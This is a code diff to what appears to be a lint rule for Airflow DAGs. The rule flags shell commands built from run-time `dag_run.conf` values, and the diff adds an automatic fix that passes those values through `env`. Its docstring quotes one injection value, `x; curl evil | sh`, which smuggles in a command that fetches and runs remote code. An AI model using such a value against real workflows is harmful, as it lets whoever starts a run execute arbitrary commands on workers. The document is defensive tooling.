@@ -9,8 +9,9 @@ from typing import TYPE_CHECKING
 from dagmig.diagnostics import Severity
 from dagmig.graph.jinja import BadTemplate, tree
 from dagmig.graph.model import Task, Workflow
+from dagmig.lint.mends.shell_injection_dag_run_conf import mend
 from dagmig.lint.operators import class_name
-from dagmig.lint.rule import Finding, dag_rule
+from dagmig.lint.rule import Finding, FixKind, dag_rule
 from dagmig.lint.source import Source
 from dagmig.lint.templated import texts
 
@@ -28,13 +29,15 @@ HARMLESS = frozenset({"int", "float", "length", "count", "abs", "round"})  # fil
 CONF = re.compile(r"\bdag_run\s*\.\s*conf\b|\bdag_run\[.conf.\]")
 
 
-@dag_rule(Severity.ERROR)
+@dag_rule(Severity.ERROR, fix=FixKind.UNSAFE)
 def shell_injection_dag_run_conf(workflow: Workflow, source: Source) -> Iterator[Finding]:
     """A shell command is put together from what somebody gives when starting the run.
 
     Who may start the DAG may then run any command on the worker: `{"name": "x; curl evil | sh"}`. Airflow's
     documentation of the operator warns of it. A value turned into a number is left alone, and so are the
-    arguments of a pod that is no shell. `params` are left alone as well: a DAG may say what they hold.
+    arguments of a pod that is no shell. `params` are left alone as well: a DAG may say what they hold. The
+    fix hands the values over by `env`, in a `BashOperator` without one and where they stand outside of
+    single quotes; it is unsafe, as a value of several words is one word then.
     See https://airflow.apache.org/docs/apache-airflow-providers-standard/stable/operators/bash.html
 
     ```python bad
@@ -42,7 +45,10 @@ def shell_injection_dag_run_conf(workflow: Workflow, source: Source) -> Iterator
     from airflow.operators.bash import BashOperator
 
     with DAG("nightly", schedule=None):
-        BashOperator(task_id="load", bash_command="load {{ dag_run.conf['table'] }}")
+        BashOperator(
+            task_id="load",
+            bash_command="load {{ dag_run.conf['table'] }}",
+        )
     ```
 
     ```python good
@@ -50,7 +56,12 @@ def shell_injection_dag_run_conf(workflow: Workflow, source: Source) -> Iterator
     from airflow.operators.bash import BashOperator
 
     with DAG("nightly", schedule=None):
-        BashOperator(task_id="load", bash_command='load "$T"', env={"T": "{{ dag_run.conf['table'] }}"})
+        BashOperator(
+            task_id="load",
+            bash_command='load "${CONF_TABLE}"',
+            append_env=True,
+            env={"CONF_TABLE": "{{ dag_run.conf['table'] }}"},
+        )
     ```
 
     Instead: Hand it over by `env`, and quote the variable in the command.
@@ -62,7 +73,9 @@ def shell_injection_dag_run_conf(workflow: Workflow, source: Source) -> Iterator
         for name, text in source.templates(task):
             if name in arguments and CONF.search(text) and _is_pasted(text):
                 span = source.syntax.argument_span(task.span, name)
-                yield Finding(f"who starts the run may run any command by way of `{task.id}`", span)
+                message = f"who starts the run may run any command by way of `{task.id}`"
+                fix = mend(source, task, span) if class_name(task) == "BashOperator" else None
+                yield Finding(message, span, fix)
 
 
 def _is_shell(pod: Task) -> bool:
